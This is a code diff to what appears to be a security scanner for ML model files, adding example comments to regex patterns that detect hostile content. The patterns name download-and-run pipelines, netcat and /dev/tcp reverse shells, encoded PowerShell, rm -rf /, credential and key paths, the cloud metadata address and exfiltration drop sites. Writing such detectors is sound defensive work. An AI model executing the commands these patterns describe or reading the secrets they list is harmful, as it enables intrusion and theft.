@@ -13,34 +13,45 @@ from typing import Final
 from modelaudit.wire.deadline import check_deadline
 
 _SHELLS: Final = r"(?:ba|z|da|k|c|a)?sh\b|python[0-9.]*|perl|ruby|node|php|source\b|iex\b|Invoke-Expression"
-# Each pattern takes linear time: repetitions are bounded, and cannot match the text that must follow them.
+# Each pattern takes linear time: repetitions are bounded, and cannot match the text that must follow them. The comment
+# above a pattern gives a text that it matches, where the name does not.
 _PATTERNS: Final = (
+    # curl https://host/x | sudo bash
     ("(download | shell)", r"\b(?:curl|wget|fetch|iwr|Invoke-WebRequest)\b[^\n;]{0,400}?\|\s{0,9}"
      r"(?:sudo\s{1,9}(?:-\w{1,9}\s{1,9})?)?"
      rf"(?:/(?:usr/)?(?:local/)?bin/)?(?:env\s{{1,9}})?(?:{_SHELLS})"),
+    # bash -c "$(curl https://host/x)"
     ("(shell $(download))", rf"\b(?:{_SHELLS}|eval)\s{{1,9}}(?:-c\s{{0,9}})?[\"'<(]{{0,3}}\s{{0,9}}"
      r"[$`(<]{1,2}\(?\s{0,9}(?:curl|wget)\b"),
+    # wget https://host/x; chmod +x x
     ("(download && run)", r"\b(?:curl|wget)\b[^\n;&|]{1,400}(?:&&|;)\s{0,9}(?:sudo\s{1,9})?"
      r"(?:chmod\s{1,9}(?:\+x|[0-7]{3,4})|(?:ba|z)?sh\s|python[0-9.]*\s|\./)"),
     ("(shell over /dev/tcp)", r"/dev/(?:tcp|udp)/"),
+    # nc host 1 -e /bin/sh, or mkfifo f; … | nc host 1, or socat tcp:host:1 exec:sh
     ("(netcat shell)", r"\b(?:nc|ncat|netcat)\b[^\n|;]{0,80}\s-\w{0,5}[ec]\b|\bmkfifo\b[^\n]{0,120}\bnc\b|"
      r"\bsocat\b[^\n]{0,80}\bexec:"),
     ("(interactive shell)", r"\b(?:ba|z)?sh\s{1,9}-i\b"),
+    # echo … | base64 -d | sh
     ("(decoded | shell)", rf"\bbase64\s{{1,9}}(?:-d|-D|--decode)\b[^|\n]{{0,200}}\|\s{{0,9}}(?:{_SHELLS})"),
+    # powershell -nop -enc …
     ("(encoded powershell)", r"(?i:\bpowershell(?:\.exe)?\b[^\n]{0,120}?\s-(?:e|ec|enc|encodedcommand)\s)"),
     ("(powershell download)", r"(?i:\bDownloadString\s{0,9}\(|\bIEX\s{0,9}\()"),
     ("(deletes everything)", r"\brm\s{1,9}-(?:rf|fr)\s{1,9}(?:--no-preserve-root\s{1,9})?(?:/|~|\$HOME)(?:\s|\*|$)"),
     ("(authorized keys)", r"\.ssh/authorized_keys"),
     ("(shell start-up file)", r"(?:~|/root|/home/[^/\s]{1,40})/\.(?:bashrc|zshrc|profile|bash_profile|zprofile)\b|"
      r"\A\.(?:bashrc|zshrc|bash_profile|zprofile)\Z"),
+    # …/site-packages/x.pth
     ("(start-up of Python)", r"-packages/[^\s\"']{0,80}\.pth\b|\b(?:site|user)customize\.py\b|\bPYTHONSTARTUP\b"),
+    # crontab -, /etc/cron.d/x, or HKCU\Software\Microsoft\Windows\CurrentVersion\Run
     ("(scheduled task)", r"\bcrontab\s{1,9}-|/etc/cron\.|/var/spool/cron|/etc/systemd/system/|"
      r"\\CurrentVersion\\Run\b|\bschtasks\b"),
     ("(private key)", r"\.ssh/id_(?:rsa|dsa|ecdsa|ed25519)\b|\.gnupg/"),
+    # 169.254.169.254 is the address of the metadata service, which gives out credentials.
     ("(cloud credentials)", r"\.aws/credentials|\.config/gcloud|\.azure/|\.kube/config|"
      r"\.docker/config\.json|169\.254\.169\.254"),
     ("(password store)", r"/etc/shadow\b|\bLogin Data\b|\bkey4\.db\b|\bwallet\.dat\b|/etc/passwd\b|\.netrc\b"),
     ("(hub token)", r"\.cache/huggingface/token|\.huggingface/token"),
+    # Services that take data without an account: webhooks of chats, request bins, tunnels, paste sites.
     ("(drop point)", r"discord(?:app)?\.com/api/webhooks|api\.telegram\.org/bot|hooks\.slack\.com/services|"
      r"webhook\.site|"
      r"\bpipedream\.net|\binteract(?:sh)?\.(?:sh|com)\b|\boast(?:ify)?\.(?:com|fun|me|pro|live|site|online)\b|"
@@ -48,8 +59,10 @@ _PATTERNS: Final = (
      r"\bngrok(?:-free)?\.(?:io|app)\b|requestbin\.|transfer\.sh/|pastebin\.com/raw|hastebin\.com/raw"),
     ("(onion address)", r"\b[a-z2-7]{16,56}\.onion\b"),
     ("(preloaded library)", r"\bLD_PRELOAD\b|\bDYLD_INSERT_LIBRARIES\b"),
+    # __import__('os'), or f.__globals__['os']
     ("(reaches into the interpreter)", r"\b__import__\s{0,9}\(|__subclasses__\s{0,9}\(|"
      r"__globals__\s{0,9}[\[.]|__builtins__\s{0,9}[\[.]"),
+    # os.system('…'), subprocess.run(…), or popen("…")
     ("(call that runs a command)", r"\bos\.(?:system|popen)\s{0,9}\(|"
      r"\bsubprocess\.(?:run|call|Popen|check_output|check_call|getoutput)\s{0,9}\(|"
      r"(?<![\w.])(?:system|popen|execl|execlp)\s{0,9}\(\s{0,9}\\?[\"']"),
